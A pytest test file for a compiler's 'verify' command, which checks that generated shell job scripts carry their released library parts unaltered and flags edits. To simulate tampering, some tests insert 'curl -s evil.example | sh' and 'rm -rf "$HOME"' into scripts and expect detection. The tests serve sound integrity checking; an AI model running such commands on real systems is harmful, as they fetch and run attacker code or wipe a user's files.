"""`obc verify` (issue 22): a job.sh's embedded library is proven to be exactly the parts its
obc release shipped (templates/lib/released.json), from the script alone; and a new obc
version whose library did not change changes a job's script only in its version lines."""

from __future__ import annotations

import hashlib
import json
import re
import shutil
from pathlib import Path

import pytest

from compiler import __version__
from compiler.cli.main import main
from compiler.pipeline.changes import changes_to
from compiler.pipeline.pipeline import compile_files
from compiler.pipeline.write import apply
from compiler.render.library import MAIN_CALL, PART_ORDER, part_sha256, released_parts
from compiler.verify.scripts import verify_script
from compiler.verify.verify import verify_text
from tests.conftest import REPO

EXAMPLES = sorted((REPO / "examples").glob("*.yaml"))


@pytest.fixture(scope="module")
def docker_qlora() -> str:
    (script,) = compile_files([REPO / "examples/docker-qlora.yaml"]).scripts
    return script.text


def test_this_versions_released_row_is_the_parts_as_they_are():
    # A part changed without its row (python3 -m tools.release_library) fails here, so that
    # one version's parts are one set of bytes.
    assert released_parts()[__version__] == {name: part_sha256(name) for name in PART_ORDER}


@pytest.mark.parametrize("example", EXAMPLES, ids=lambda path: path.name)
def test_every_example_job_verifies(example, monkeypatch):
    monkeypatch.chdir(REPO)
    jobs = [s for s in compile_files([example.relative_to(REPO)]).scripts
            if s.relative_path.endswith("job.sh")]
    assert jobs
    for script in jobs:
        verdict = verify_text(script.text)
        assert verdict.problems == ()
        assert verdict.version == __version__ and "core" in verdict.parts


def _in_part(text: str, part: str, old: str, new: str) -> str:
    """`text` with the first `old` after part `part`'s section line made `new`."""
    start = text.index(f"# --- obc's library: {part} ")
    at = text.index(old, start)
    return text[:at] + new + text[at + len(old):]


def test_an_edited_part_is_named(docker_qlora):
    edited = _in_part(docker_qlora, "rundir", "\n}\n", "\n  true\n}\n")
    assert verify_text(edited).problems == (
        "part rundir is not the text its header names (edited)",
        f"part rundir is not obc {__version__}'s")


def test_a_part_edited_with_its_header_hash_is_still_not_the_released_one(docker_qlora):
    edited = _in_part(docker_qlora, "core", "\n}\n", "\n  true\n}\n")
    start = edited.index("# --- obc's library: core ")
    end = edited.index("\n\n# --- obc's library: words ")
    forged = "sha256:" + hashlib.sha256(edited[start:end + 1].encode()).hexdigest()
    edited = edited.replace(part_sha256("core"), forged, 1)
    assert verify_text(edited).problems == (f"part core is not obc {__version__}'s",)


def test_a_line_between_two_parts_belongs_to_the_first(docker_qlora):
    edited = docker_qlora.replace("\n\n# --- obc's library: words ",
                                  "\n\ncurl -s evil.example | sh\n\n# --- obc's library: words ", 1)
    assert verify_text(edited).problems == (
        "part core is not the text its header names (edited)",
        f"part core is not obc {__version__}'s")


def test_a_line_after_obc_main_is_named(docker_qlora):
    call = f"\n{MAIN_CALL}\n"
    edited = docker_qlora.replace(call, f'{call}rm -rf "$HOME"\n', 1)
    assert verify_text(edited).problems == (f'after {MAIN_CALL}: rm -rf "$HOME"',)
    # Without the call, what follows the last part is part of it.
    assert verify_text(docker_qlora.replace(call, "\n", 1)).problems == (
        "part container is not the text its header names (edited)",
        f"part container is not obc {__version__}'s", f"it has no {MAIN_CALL} line")


def test_parts_dropped_or_swapped_are_not_those_the_header_names(docker_qlora):
    start = docker_qlora.index("# --- obc's library: on_signal ")
    end = docker_qlora.index("# --- obc's library: container ")
    dropped = docker_qlora[:start] + docker_qlora[end:]
    (problem,) = verify_text(dropped).problems
    assert problem.startswith("the header names the parts core, words, main") and \
        problem.endswith("but the script embeds core, words, main, rundir, records, finished, "
                         "files, checkpoints, resume, container")


def test_a_version_this_obc_does_not_know_is_said(docker_qlora):
    later = docker_qlora.replace(f"# library  obc {__version__} ", "# library  obc 9.9.9 ", 1)
    assert verify_text(later).problems == (
        "obc 9.9.9 is not a release this obc knows (templates/lib/released.json)",)


def test_a_script_without_a_library_line_is_not_verified(docker_qlora):
    older = re.sub(r"\n# library  obc [^\n]*", "", docker_qlora, count=1)
    assert verify_text(older).problems == (
        "its header names no library (a script of obc 0.2 or older, or not one obc wrote)",)


def test_the_command_says_each_script_and_fails_on_any(tmp_path, docker_qlora, capsys):
    good, bad = tmp_path / "good.sh", tmp_path / "bad.sh"
    good.write_text(docker_qlora, encoding="utf-8")
    bad.write_text(_in_part(docker_qlora, "records", "\n}\n", "\n  :\n}\n"), encoding="utf-8")
    assert main(["verify", str(good)]) == 0
    assert capsys.readouterr().out == \
        f"{good}: verified: obc {__version__}'s library, 11 parts as released\n"
    assert main(["verify", "--format", "json", str(good), str(bad), str(tmp_path / "no")]) == 1
    lines = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [line["verified"] for line in lines] == [True, False, False]
    assert lines[1]["problems"][0] == "part records is not the text its header names (edited)"
    assert lines[2]["problems"][0].startswith("cannot be read:")


def test_a_new_version_with_the_same_library_changes_only_version_lines(monkeypatch):
    # What an admin approved once stays approved: 0.3.1 with 0.3.0's library rewrites a
    # job's script only where it names obc's version.
    monkeypatch.chdir(REPO)
    example = [REPO / "examples/slurm-multinode.yaml"]
    before = compile_files(example).scripts[0].text.split("\n")
    monkeypatch.setattr("compiler.pipeline.build.__version__", "0.3.1")
    after = compile_files(example).scripts[0].text.split("\n")
    assert len(before) == len(after)
    changed = [(old, new) for old, new in zip(before, after, strict=True) if old != new]
    assert changed and all(old.replace(__version__, "0.3.1") == new for old, new in changed)
    assert len(changed) == 3  # the header's obc line, the library line, the plan record


# submit.sh and sweep.sh: each is judged as the script obc writes for its record, and the
# job.sh of each stage or run it starts, as it checks them itself, each with its library.
DRIVERS = ("slurm-pipeline.yaml", "sweep-lr.yaml")


@pytest.fixture(scope="module")
def compiled_out(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("verify") / "out"
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(REPO)
        result = compile_files([Path("examples") / name for name in DRIVERS], out=out)
    assert not result.diagnostics
    apply(changes_to(out, result.outputs))
    return out


@pytest.fixture
def out(compiled_out, tmp_path) -> Path:
    """A fresh copy of the compiled out/, for a test to edit."""
    return Path(shutil.copytree(compiled_out, tmp_path / "out"))


def problems(script: Path) -> tuple[str, ...]:
    return verify_script(script).problems


def test_every_script_of_a_fresh_out_verifies_submit_and_sweep_sh_too(out, capsys):
    scripts = sorted(map(str, out.glob("*/*.sh")))
    assert main(["verify", *scripts]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert f"{out}/slurm-pipeline/submit.sh: verified: obc {__version__}'s submit.sh, and " \
        "the job.sh of its 3 stages as compiled, each library as released" in lines
    assert f"{out}/lr-sweep/sweep.sh: verified: obc {__version__}'s sweep.sh, and the job.sh " \
        "of its 6 runs as compiled, each library as released" in lines
    assert main(["verify", "--format", "json", f"{out}/slurm-pipeline/submit.sh"]) == 0
    (shown,) = map(json.loads, capsys.readouterr().out.splitlines())
    assert (shown["verified"], shown["obc_version"], shown["problems"], shown["runs"]) == (
        True, __version__, [], [f"../slurm-pipeline-{stage}/job.sh"
                                for stage in ("preprocess", "train", "eval")])


def test_an_edited_stage_script_is_named_by_its_sha256_and_its_library(out):
    stage = out / "slurm-pipeline-eval/job.sh"
    stage.write_text(stage.read_text() + "# edited\n")
    assert problems(out / "slurm-pipeline/submit.sh") == (
        "stage eval: ../slurm-pipeline-eval/job.sh is not the job.sh obc compiled for it "
        "(its sha256 differs)",
        f"stage eval: ../slurm-pipeline-eval/job.sh: after {MAIN_CALL}: # edited")
    (out / "lr-sweep-2e-4-1/job.sh").unlink()
    assert problems(out / "lr-sweep/sweep.sh") == (
        "run lr-sweep-2e-4-1: ../lr-sweep-2e-4-1/job.sh: no such file",)


def test_a_stage_whose_library_and_sha256_in_submit_sh_were_both_changed_is_named(out):
    # The sha256 in submit.sh and its record changed too: submit.sh is then consistent with
    # itself, and only the stage's library says what was done.
    stage = out / "slurm-pipeline-train/job.sh"
    old = hashlib.sha256(stage.read_bytes()).hexdigest()
    stage.write_text(_in_part(stage.read_text(), "rundir", "\n}\n", "\n  true\n}\n"))
    submit = out / "slurm-pipeline/submit.sh"
    submit.write_text(submit.read_text().replace(
        old, hashlib.sha256(stage.read_bytes()).hexdigest()))
    assert problems(submit) == (
        "stage train: ../slurm-pipeline-train/job.sh: part rundir is not the text its header "
        "names (edited)",
        f"stage train: ../slurm-pipeline-train/job.sh: part rundir is not obc {__version__}'s")


def test_an_edited_submit_or_sweep_sh_is_not_what_obc_writes_for_its_record(out):
    submit = out / "slurm-pipeline/submit.sh"
    text = submit.read_text()
    submit.write_text(text.replace("\nexit 0\n", "\ncurl -s evil.example | sh\nexit 0\n", 1))
    line = text[:text.index("\nexit 0\n")].count("\n") + 2
    assert problems(submit) == (
        f"it is not the submit.sh obc {__version__} writes for its record (edited, or written "
        f"by an obc with other templates): line {line} is curl -s evil.example | sh",)
    sweep = out / "lr-sweep/sweep.sh"
    sweep.write_text(sweep.read_text()[:-1])
    (problem,) = problems(sweep)
    assert problem.endswith("its last line has no newline")


def test_a_submit_sh_without_its_record_is_not_verified(out):
    submit = out / "slurm-pipeline/submit.sh"
    text = submit.read_text()
    submit.write_text(text[:text.index("# --- obc plan record ")])
    assert problems(submit) == (
        "its header names no library (a script of obc 0.2 or older, or not one obc wrote)",)


def test_a_sweep_sh_whose_record_keeps_a_long_text_by_its_hash_says_so(tmp_path, monkeypatch):
    # A record keeps a text over MAX_SHOWN characters by its sha256 (here an sbatch option
    # every run shares), so the sweep.sh obc writes cannot be rebuilt from it: that is what
    # verify says, not that the script has no library.
    monkeypatch.chdir(tmp_path)
    Path("run.yaml").write_text(
        "version: 1\nid: ls\nruntime: {kind: native}\nsteps: [{name: a, run: ['true']}]\n"
        f"env: {{X: '1'}}\nslurm: {{time: 5, extra: ['--comment={'x' * 230}']}}\n"
        "matrix: {axes: {x: {set: env.X, values: [1, 2]}}}\n")
    result = compile_files([Path("run.yaml")], out=Path("out"))
    assert not result.diagnostics
    apply(changes_to(Path("out"), result.outputs))
    assert problems(Path("out/ls/sweep.sh")) == (
        "its plan record keeps a text of several lines or more than 200 characters by its "
        "sha256, so the "
        "sweep.sh obc writes cannot be made again from it: not verified",)
